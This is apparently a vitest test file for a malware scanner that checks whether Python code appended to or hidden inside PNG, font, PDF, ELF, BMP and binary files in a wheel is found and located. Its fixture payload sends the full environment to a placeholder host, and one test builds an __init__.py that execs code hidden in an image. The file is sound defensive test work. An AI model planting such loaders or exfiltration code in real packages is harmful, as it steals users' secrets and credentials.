import { afterAll, describe, expect, it } from "vitest";
import { codePartsOf, describeContent, identify } from "../../../main/decode/index.ts";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildElf } from "../../support/binary-builder.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

async function scanned(files: Readonly<Record<string, string | Uint8Array>>) {
	const bytes = buildZip(Object.entries(files).map(([name, content]) => ({ name, content })));
	return pool.scan({ kind: "bytes", filename: "pond-1.0-py3-none-any.whl", bytes, origin: "upload" });
}

async function scan(files: Readonly<Record<string, string | Uint8Array>>): Promise<Analysis> {
	const one = await scanned(files);
	await one.close();
	return one.analysis;
}

const PAYLOAD =
	'import os\nimport urllib.request\n\n\ndef go():\n    data = repr(dict(os.environ)).encode()\n    urllib.request.urlopen("https://example.invalid/collect", data)\n\n\ngo()\n';
const latin1 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
const joined = (...pieces: readonly (Uint8Array | string)[]): Uint8Array =>
	new Uint8Array(Buffer.concat(pieces.map((piece) => (typeof piece === "string" ? Buffer.from(piece) : piece))));
const chunk = (type: string, data: string): Uint8Array =>
	joined(
		latin1(`\0\0${String.fromCharCode(data.length >> 8, data.length & 0xff)}${type}`),
		latin1(data),
		latin1("\0\x01\x02\0"),
	);
const png = (...inside: readonly Uint8Array[]): Uint8Array =>
	joined(
		latin1("\x89PNG\r\n\x1a\n"),
		chunk("IHDR", "\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0"),
		...inside,
		chunk("IEND", ""),
	);
/** Bytes among which no text is long. */
const noise = Uint8Array.from({ length: 3_000 }, (_, index) => (index * 167 + (index >> 3) * 89) % 256);
const font = joined(latin1("\0\x01\0\0\0\x01\0\0\0\0\0\0name\0\0\0\0\0\0\0\x1c\0\0\0\x08"), "\0\0\0\0\0\0\0\0");

const carriers: readonly (readonly [what: string, name: string, before: Uint8Array, after: Uint8Array])[] = [
	["behind a picture", "pond/logo.png", png(), latin1("")],
	[
		"in a comment of a picture",
		"pond/logo.png",
		joined(png().subarray(0, 33), "\0\0\x01\0tEXtComment\0"),
		png().subarray(33),
	],
	["behind a font", "pond/face.ttf", font, latin1("")],
	["behind a document", "pond/manual.pdf", latin1("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n\xff\xfe\0%%EOF\n"), latin1("")],
	["behind a program", "pond/native.so", buildElf({ wide: true, little: true }), latin1("\0\0\0")],
	["in the midst of unknown bytes", "pond/model.bin", noise, noise],
];

describe("Python source in what is no text", () => {
	it.each(carriers)("is examined %s, and stands where its bytes stand", async (_what, name, before, after) => {
		const analysis = await scan({ "pond/__init__.py": "x = 1\n", [name]: joined(before, PAYLOAD, after) });
		const found = analysis.findings.filter(({ path, layerIds }) => path === name && layerIds.length > 0);
		expect(found.length).toBeGreaterThan(0);
		const [layer] = analysis.layers;
		expect(analysis.layers).toHaveLength(1);
		expect(layer).toMatchObject({ path: name, kind: "python", use: "literal", depth: 1 });
		const offset = layer?.memberSpan.startOffset ?? 0;
		// Up to some letters of the carrier, the place is that of the code.
		expect(offset).toBeLessThanOrEqual(before.length);
		expect(offset).toBeGreaterThan(before.length - 30);
		expect(layer?.memberSpan.endOffset).toBeGreaterThanOrEqual(before.length + PAYLOAD.length);
		const lines = Buffer.from(joined(before)).toString("latin1").split("\n").length;
		expect(layer?.memberSpan.startLine).toBeLessThanOrEqual(lines);
		for (const { span, reach } of found) {
			expect(span).toEqual(layer?.memberSpan);
			expect(reach).toBe("unreached");
		}
		const line = analysis.coverage.skipped.find(({ path }) => path === name);
		expect(line).toMatchObject({
			extent: "part",
			reason: expect.stringContaining("the Python code in it was examined"),
		});
		expect(analysis.coverage).toMatchObject({ members: 2, examined: 1, inPart: 1, notExamined: 0 });
	});

	it("runs where somebody runs it", async () => {
		const analysis = await scan({
			"pond/__init__.py": `import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, "logo.png"), "rb").read()[${png().length}:])\n`,
			"pond/logo.png": joined(png(), PAYLOAD),
		});
		const found = analysis.findings.filter(({ path, layerIds }) => path === "pond/logo.png" && layerIds.length > 0);
		expect(found.map(({ reach }) => reach)).toContain("import");
		expect(["suspicious", "malicious"]).toContain(analysis.verdict.level);
	});

	it("is a document of its own, and its member's structure tells of it", async () => {
		const content = joined(png(), PAYLOAD);
		const one = await scanned({ "pond/__init__.py": "x = 1\n", "pond/logo.png": content });
		const document = await one.document("l0");
		expect(document?.document.text).toBe(PAYLOAD);
		await one.close();
		const { parts, remarks } = describeContent(content);
		expect(parts).toContainEqual(
			expect.objectContaining({ name: "[Python source]", offset: png().length, size: PAYLOAD.length }),
		);
		expect(remarks.join(" ")).toContain("It holds Python source");
	});

	it.each([
		["a picture without", png()],
		[
			"a picture with a comment",
			png(chunk("tEXt", "Comment\0Created with an editor, for the pond. Import of frogs: see the manual.")),
		],
		[
			"a program with texts",
			buildElf({ wide: true, little: true }, { behind: "usage: pond [options] file, and more text\n".repeat(9) }),
		],
		["noise", noise],
		["a line too short to do anything", joined(noise, "import os\n", noise)],
	])("is not seen in %s", (_what, bytes) => {
		expect(codePartsOf(bytes, identify(bytes))).toEqual([]);
	});

	it("loses no letter to a picture that says that it ends later", () => {
		const bitmap = latin1("BM\x40\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0".padEnd(58, "\0"));
		const bytes = joined(bitmap, PAYLOAD);
		expect(identify(bytes).format).toBe("BMP");
		expect(codePartsOf(bytes, identify(bytes))).toEqual([{ offset: bitmap.length, size: PAYLOAD.length }]);
	});

	it("is not hidden by hundreds of texts around it", () => {
		const crowd = joined(
			...Array.from({ length: 700 }, (_, index) => `text ${index} of a picture: it says that frogs live in a pond\0`),
		);
		const bytes = joined(png(), crowd, PAYLOAD, "\0", crowd);
		expect(codePartsOf(bytes, identify(bytes))).toEqual([
			{ offset: png().length + crowd.length, size: PAYLOAD.length },
		]);
	});

	it("is bounded: so many parts, of the last bytes", () => {
		const many = joined(...Array.from({ length: 50 }, () => joined(noise, "\0", PAYLOAD)), noise);
		const parts = codePartsOf(many, identify(many));
		expect(parts).toHaveLength(32);
		expect(parts.at(-1)).toMatchObject({ size: PAYLOAD.length });
		expect(many.length - (parts.at(-1)?.offset ?? 0)).toBe(noise.length + PAYLOAD.length);
		const far = joined(noise, PAYLOAD, noise, new Uint8Array(32 * 1024 * 1024));
		expect(codePartsOf(far, identify(far))).toEqual([]);
	});
});
